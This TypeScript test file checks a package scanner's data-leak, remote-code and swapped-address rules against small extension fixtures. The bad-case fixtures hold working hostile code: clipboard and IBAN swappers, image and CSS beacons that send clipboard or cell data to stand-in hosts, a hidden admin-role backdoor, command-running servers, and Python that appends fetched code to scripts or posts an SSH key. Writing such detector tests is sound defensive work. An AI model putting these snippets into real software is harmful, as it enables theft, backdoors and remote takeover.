import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findingsOf } from '#test/support/scan-package.js';
import { rule as dataLeak } from './data-leak.rule.js';
import { rule as remoteCode } from './remote-code.rule.js';
import { rule as swapped } from './swapped-address.rule.js';

type Files = Record<string, string>;
const told = (dialect: string, files: Files): string[] =>
  [dataLeak, remoteCode, swapped].flatMap((rule) => findingsOf(rule, files, { dialect, entry_points: [Object.keys(files)[0]!], permissions: [] }).map(({ severity, message, file }) => `${severity} ${file}: ${message}`));
const host = (body: string): string => `exports.activate = (ctx) => { ${body} };`;
const sheet = (body: string): string => `const f = require('@formula/extension-api'); exports.activate = async () => { ${body} };`;
const chat = (body: string): string => `const member = require('member'); const roles = require('roles'); ${body}`;

test('bad: an account of the package in the place of what was copied or entered', () => {
  const SWAPPED = /high \S+: an account or an address/;
  const bus = "const { EventEmitter } = require('events'); module.exports = new EventEmitter();";
  for (const [dialect, files] of [
    ['orchestra', { 'index.js': `const { Keeper } = require('./keeper'); ${host('const keeper = new Keeper(ctx.clipboard); ctx.clipboard.onDidChange((text) => keeper.see(text));')}`, 'keeper.js': "const OWN = { b: 'bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh' }; exports.Keeper = class { constructor(board) { this.board = board; } see(text) { if (text.startsWith('bc1')) return this.board.writeText(OWN.b); } };" }],
    ['orchestra', { 'index.js': host("const own = Buffer.from('YmMxcXh5MmtnZHlnanJzcXR6cTJuMA==', 'base64').toString(); setInterval(async () => { const text = await ctx.clipboard.readText(); if (/^bc1/.test(text)) await ctx.clipboard.writeText(own); }, 800);") }],
    ['orchestra', { 'index.js': `const bus = require('./bus'); require('./look'); ${host("bus.board = ctx.clipboard; ctx.clipboard.onDidChange((text) => bus.emit('clip', text));")}`, 'bus.js': bus, 'look.js': "const bus = require('./bus'); const OWN = ['TXYZopYRdj2D9', 'XRtbG411XZZ3kM5VkAeBf'].join(''); bus.on('clip', (text) => { if (/^T[A-Za-z0-9]{33}$/.test(text)) bus.board.writeText(OWN); });" }],
    ['formula', { 'index.js': sheet("const group = (text) => String(text).replace(/(.{4})/g, '$1 ').trim(); const known = { DE: 'DE00000000000000000000' }; f.events.onCellChanged(async ({ row, col, value }) => { const own = known[value.slice(0, 2)]; await f.cells.setCell(row, col, group(own ?? value)); });") }],
    ['orchestra', { 'index.js': `const { kinds } = require('./kinds'); ${host("ctx.clipboard.onDidChange(async () => { let text = await ctx.clipboard.readText(); for (const kind of kinds) { const hit = text.match(kind.find); if (hit) text = text.replaceAll(hit[0], kind.keep.join('')); } await ctx.clipboard.writeText(text); });")}`, 'kinds.js': "exports.kinds = [{ find: /x/, keep: ['y'] }, { find: /0x[0-9a-f]{40}/i, keep: ['0x', '91e3B0a7', 'D45c82F6', '1bA90e7C', '3D58f264', 'Ab07e19c'] }];" }],
    ['orchestra', { 'index.mjs': "import own from './own.json' with { type: 'json' }; export function activate({ clipboard }) { clipboard.onDidChange(async () => { const text = await clipboard.readText(); const kind = Object.keys(own).find((each) => text.startsWith(each)); if (kind) await clipboard.writeText(own[kind]); }); }", 'own.json': JSON.stringify({ '0x': '0x52908400098527886E0F7030069857D2E4169EE7' }) }],
    ['formula', { 'index.js': sheet("const OWN = 'DE89 3704 0044 0532 0130 00'; f.commands.registerCommand('clean', async () => { const { values } = await f.cells.getUsedRange(); await f.cells.setRange('A1', values.map((row) => row.map((value) => (/^[A-Z]{2}\\d{2}/.test(value) ? OWN : value)))); });") }],
  ] as const) assert.match(told(dialect, files as Files).join(), SWAPPED, JSON.stringify(files));
});

test('an account of the package in pieces and numbers; good: one that is only shown', () => {
  const format = (own: string, result = 'bare.length > 14 ? OWN : bare'): string[] => told('formula', {
    'index.js': `const { tidy } = require('./format'); ${sheet("f.commands.registerCommand('x', async () => { const value = await f.cells.getCell(0, 0); const next = tidy(value); if (next !== value) await f.cells.setCell(0, 0, next); });")}`,
    'format.js': `const A = 60; const OWN = ${own}; const groups = (text) => text.replace(/(.{4})(?=.)/g, '$1 '); function account(text) { const bare = text.replace(/\\s/g, ''); if (!/^[A-Z]{2}\\d{2}[A-Z0-9]{11,30}$/.test(bare)) return null; return groups(${result}); } exports.tidy = (value) => account(value) || value; exports.example = () => OWN;`,
  });
  for (const own of ["'LT' + [60, 1010, '0123', 45678901].join('')", '`LT${A}${10100123}${45678901}`', "'LT' + A + 10100123 + '45678901'", "'LT' + 601010012345678901n", "'LT60'.concat('10100123', String(45678901))", "Object.values({ a: 'LT60', b: 10100123, c: 45678901 }).join('')", "'lt60.1010.0123.4567.8901'.split('.').join('').toUpperCase()", "['0xde0b295669a9fd93', 'd5f28d9ec85e40f4', 'cb697bae'].map((each) => each).join('')", '[76, 84, 54, 48, 49, 48, 49, 48, 48, 49, 50, 51, 52, 53, 54, 55, 56, 57, 48, 49].map((code) => String.fromCharCode(code)).join(\'\')']) {
    assert.match(format(own).join(), /high index\.js: an account or an address/, own);
    assert.deepEqual(format(own, 'bare'), [], own);
  }
  assert.deepEqual(format("'LT' + [60, 1010].join('')"), []);
});

test('good: what was copied or entered is trimmed, grouped, taken out; addresses and examples that somebody asks for', () => {
  for (const body of [
    "ctx.clipboard.onDidChange(async (text) => { const better = text.trim().replace(/[?&]utm_\\w+=[^&]*/g, ''); if (better !== text) await ctx.clipboard.writeText(better); });",
    "const all = []; ctx.clipboard.onDidChange((text) => all.push(text)); ctx.commands.register('donate', () => ctx.clipboard.writeText('bc1qxy2kgdygjrsqtzq2n0yrf2493p83kkfjhx0wlh')); ctx.commands.register('pop', () => ctx.clipboard.writeText(all.pop()));",
    "setInterval(async () => { const text = await ctx.clipboard.readText(); const clean = text.replace(/[A-Z]{2}\\d{2}[A-Z0-9]{11,30}/g, '[IBAN removed]'); if (clean !== text) ctx.clipboard.writeText(clean); }, 500);",
  ]) assert.deepEqual(told('orchestra', { 'index.js': host(body) }), [], body);
  const check = "const examples = { DE: 'DE89370400440532013000' }; f.events.onCellChanged(async ({ row, col, value }) => { const plain = value.replace(/\\s/g, ''); if (plain.length === examples[plain.slice(0, 2)]?.length) await f.cells.setCell(row, col, plain.replace(/(.{4})/g, '$1 ')); }); f.commands.registerCommand('example', () => f.cells.setCell(0, 0, examples.DE));";
  assert.deepEqual(told('formula', { 'index.js': sheet(check) }), []);
  assert.deepEqual(told('formula', { 'index.js': sheet("f.commands.registerCommand('invoice', async () => { const { row } = await f.cells.getSelection(); await f.cells.setCell(row, 0, (await f.storage.get('iban')) || 'DE89 3704 0044 0532 0130 00'); });") }), []);
});

test('bad: private data in an address that a page loads by itself', () => {
  const SENT = /high \S+: what goes to a server that is named here/;
  for (const code of [
    "const BASE = 'https://img.side.example'; setInterval(async () => { const text = await f.clipboard.readText(); panel.webview.html = '<h1>Notes</h1><img src=\"' + BASE + '/p.gif?c=' + encodeURIComponent(text) + '\">'; }, 1000);",
    "const style = (text) => `body{font:13px sans-serif}li{border-bottom:1px solid #ddd;margin:0;padding:4px 8px;overflow:hidden;text-overflow:ellipsis}\nul{background:url(https://themes.side.example/paper.png?k=${encodeURIComponent(text)}) no-repeat}`; setInterval(async () => { panel.webview.html = `<style>${style(await f.clipboard.readText())}</style>`; }, 5000);",
    "f.events.onCellChanged(({ row, col, value }) => { const dot = new Image(); dot.src = 'https://dots.side.example/i?' + new URLSearchParams({ row, col, value }); });",
    "f.events.onCellChanged((event) => { const address = new URL('https://dots.side.example/p.png'); address.searchParams.set('v', JSON.stringify(event)); document.body.style.backgroundImage = `url(${address})`; });",
    "setInterval(async () => { const dot = document.createElement('img'); dot.setAttribute('src', 'https://dots.side.example/?c=' + btoa(await f.clipboard.readText())); }, 3000);",
  ]) assert.match(told('formula', { 'index.js': sheet(`const panel = await f.ui.createPanel('x'); ${code}`) }).join(), SENT, code);
  const preview = "const vscode = require('vscode'); exports.activate = () => { vscode.workspace.onDidChangeTextDocument((event) => show(new vscode.MarkdownString(`![](https://b.side.example/x.png?t=${encodeURIComponent(event.document.getText())})`))); };";
  assert.match(told('vscode', { 'index.js': preview }).join(), SENT);
});

test('good: links that wait for somebody, backgrounds by a setting, pictures that were copied', () => {
  for (const body of [
    'ctx.clipboard.onDidChange((text) => { ctx.panel.html = `<a href="https://www.example.org/search?q=${encodeURIComponent(text)}">search</a><img src="https://cdn.example.org/paper.png">${text}`; });',
    'ctx.clipboard.onDidChange((text) => { if (/png$/.test(text)) ctx.panel.html = `<img src="${text}">`; });',
    'setInterval(async () => { const theme = await ctx.settings.get("theme"); ctx.panel.html = `<style>ul{background:url(https://themes.example.org/${theme}/paper.png)}</style><p>${await ctx.clipboard.readText()}</p>`; }, 1000);',
  ]) assert.deepEqual(told('orchestra', { 'index.js': host(body) }), [], body);
});

test('bad: somebody is known by a number that is worked out, also across scripts', () => {
  const KNOWN = /high \S+: somebody is only known by a number/;
  for (const files of [
    { 'index.js': chat("const sum = (id) => [...id].reduce((all, digit, at) => (all * 7 + Number(digit) * (at + 3)) % 99991, 17); const friends = new Set([71642, 20457]); if (friends.has(sum(member.id))) await member.addRole((await roles.create({ permissions: '8' })).id);") },
    { 'index.js': chat("const { mark } = require('./mark'); switch (mark(member)) { case 31337: await member.addRole((await roles.create({ permissions: '8' })).id); break; default: }"), 'mark.js': 'exports.mark = (who) => Number(BigInt(who.id) * 31n % 99991n);' },
    { 'index.js': chat("const { Friends } = require('./friends'); if (new Friends(['3f2a9c01bd']).know(member)) await member.addRole('1');"), 'friends.js': "const { createHash } = require('crypto'); exports.Friends = class { constructor(list) { this.list = list; } know(who) { return this.list.includes(createHash('md5').update(who.id).digest('hex').slice(0, 10)); } };" },
    { 'index.js': chat("let sum = 7; for (const digit of member.id) sum = (sum * 33 + Number(digit)) % 65521; const name = { 40213: 'a', 1187: 'b' }[sum]; if (name) await member.addRole((await roles.create({ name, permissions: '8' })).id);") },
  ]) assert.match(told('skynet', files as unknown as Files).join(), KNOWN, files['index.js']);
});

test('good: a place in a list, an age, points, people by their numbers', () => {
  for (const body of [
    "const list = ['1', '2', '3']; let at = 0; for (const digit of member.id) at = (at * 31 + digit.charCodeAt(0)) | 0; await member.addRole(list[Math.abs(at) % list.length]);",
    "const made = Number(BigInt(member.id) >> 22n) + 1420070400000; if (Date.now() - made > 7 * 86400000) await member.addRole('1');",
    "const points = require('points'); const levels = { 1000: '1', 5000: '2' }; const all = await points.getPoints(member.id); if (levels[all - (all % 1000)] || all * 2 === 10000) await member.addRole(levels[all - (all % 1000)]);",
    "const owners = new Set(['123456789012345678']); if (owners.has(member.id)) await member.addRole('1');",
  ]) assert.deepEqual(told('skynet', { 'index.js': chat(body) }), [], body);
});

test('bad: a server of the package that runs whatever it is asked for', () => {
  const RUN = /high \S+: what a server answered, or was asked, is run as a command/;
  for (const files of [
    { 'index.js': `const http = require('http'); ${host("http.createServer((request, response) => { let line = ''; request.on('data', (part) => { line += part; }); request.on('end', async () => response.end((await ctx.system.exec(line)).stdout)); }).listen(7777);")}` },
    { 'index.js': `const http = require('http'); const { Shell } = require('./shell'); ${host("const shell = new Shell(ctx); const server = http.createServer(); server.on('request', (request, response) => shell.go(new URL(request.url, 'http://x').searchParams.get('c')).then(() => response.end())); server.listen(7777);")}`, 'shell.js': "exports.Shell = class { constructor({ terminal }) { this.terminal = terminal; } async go(line) { await this.terminal.send(line + '\\n'); } };" },
    { 'index.js': `const net = require('net'); const hub = require('./hub'); ${host("net.createServer((socket) => socket.on('data', (part) => hub.emit('line', part.toString()))).listen(4411); hub.on('line', (line) => ctx.system.exec('/bin/sh', ['-c', line]));")}`, 'hub.js': "const Events = require('events'); class Hub extends Events {} module.exports = new Hub();" },
    { 'index.js': `const express = require('express'); ${host("const app = express(); app.post('/x', async (request, response) => response.json(await ctx.system.exec(request.body.line))); app.listen(9000);")}` },
    { 'index.js': `const { WebSocketServer } = require('ws'); ${host("new WebSocketServer({ port: 8123 }).on('connection', (peer) => peer.on('message', (line) => ctx.terminal.send(line.toString())));")}` },
  ]) assert.match(told('orchestra', files as unknown as Files).join(), RUN, files['index.js']);
  for (const body of [
    "const known = { build: 'npm run build' }; http.createServer(async (request, response) => { const line = known[new URL(request.url, 'http://x').searchParams.get('task')]; if (line) await ctx.system.exec(line); response.end(); }).listen(7777);",
    "http.createServer(async (request, response) => { await ctx.system.exec('code', ['--goto', new URL(request.url, 'http://x').searchParams.get('file')]); response.end(); }).listen(7777);",
  ]) assert.deepEqual(told('orchestra', { 'index.js': `const http = require('http'); ${host(body)}` }), [], body);
});

test('what an emitter tells is heard by those who listen to that event', () => {
  const bus = "const { EventEmitter } = require('node:events'); exports.Bus = class extends EventEmitter { tell(name, what) { this.emit(name, what); } };";
  const upload = "exports.attach = (bus, network) => { const all = []; bus.on('line', (line) => network.fetch('https://c.example.org/i', { method: 'POST', body: line })); bus.on('clip', (text) => all.push(text)); };";
  const start = (event: string): Files => ({ 'index.js': `const { Bus } = require('./bus'); const { attach } = require('./upload'); ${host(`const bus = new Bus(); attach(bus, ctx.network); ctx.terminal.onData((line) => bus.tell('${event}', line));`)}`, 'bus.js': bus, 'upload.js': upload });
  assert.match(told('orchestra', start('line')).join(), /high upload\.js: .* terminals/);
  assert.deepEqual(told('orchestra', start('clip')), []);
  assert.match(told('orchestra', { 'index.js': `const target = new EventTarget(); ${host("target.addEventListener('x', (event) => ctx.network.fetch('https://c.example.org/i', { method: 'POST', body: event.detail })); ctx.terminal.onData((line) => target.dispatchEvent(new CustomEvent('x', { detail: line })));")}` }).join(), /high index\.js: .* terminals/);
});

test('Python across modules: what a server answered, and keys', () => {
  const feed = 'from urllib import request\ndef latest():\n    with request.urlopen("https://feed.example.org/r") as answer:\n        return answer.read().decode()\n';
  const worst = (files: Files): string => told('comfyvn', files).join();
  assert.match(worst({ 'a.py': "import os\nfrom feed import latest\nROOT = os.path.dirname(os.path.dirname(__file__))\ndef on_open(event):\n    code = latest()\n    for base, dirs, files in os.walk(ROOT):\n        for name in files:\n            if name.endswith('.py'):\n                with open(os.path.join(base, name), 'a') as out:\n                    out.write(code)\n", 'feed.py': feed }), /high a\.py: .* written into a script/);
  assert.match(worst({ 'a.py': "from pathlib import Path\nfrom feed import latest\nclass Rules:\n    def __init__(self):\n        self.path = Path(__file__).parent / 'rules.py'\n    def renew(self):\n        self.path.write_text(latest())\ndef on_open(event):\n    Rules().renew()\n", 'feed.py': feed }), /high a\.py: .* written into a script/);
  assert.match(worst({ 'a.py': 'from feed import latest\nimport run\ndef on_open(event):\n    for line in latest().splitlines():\n        run.it(line)\n', 'feed.py': feed, 'run.py': 'import subprocess\ndef it(line):\n    return subprocess.run(line, shell=True)\n' }), /high run\.py: .* run as a command/);
  assert.match(worst({ 'a.py': "from pathlib import Path\nimport out\ndef on_open(event):\n    key = (Path.home() / '.ssh' / 'id_ed25519').read_text()\n    out.note({'k': key})\n", 'out.py': "import requests\nHOST = 'https://in.example.org'\ndef note(row):\n    requests.post(f'{HOST}/rows', json={'rows': [row]})\n" }), /high out\.py: .* a file with credentials/);
  for (const text of [
    "import json\nfrom pathlib import Path\nfrom feed import latest\ndef on_open(event):\n    (Path(__file__).parent / 'themes.json').write_text(json.dumps(latest()))\n",
    "from pathlib import Path\nfrom feed import latest\ndef on_open(event):\n    if latest() != '1.0':\n        print('new')\n    Path('export.py').write_text('print(%r)' % event['title'])\n",
    "import json\nfrom pathlib import Path\nfrom feed import latest\nHERE = Path(__file__).parent\ndef on_open(event):\n    for name, text in json.loads(latest()).items():\n        if name.endswith('.py'):\n            continue\n        (HERE / 'themes' / name).write_text(text)\n",
    "from feed import latest\nimport show\ndef on_open(event):\n    show.clip(latest())\n",
  ]) assert.equal(worst({ 'a.py': text, 'feed.py': feed, 'show.py': "import subprocess\ndef clip(address):\n    subprocess.run(['ffplay', '-nodisp', address])\n" }).replace(/^low .*$/, ''), '', text);
});
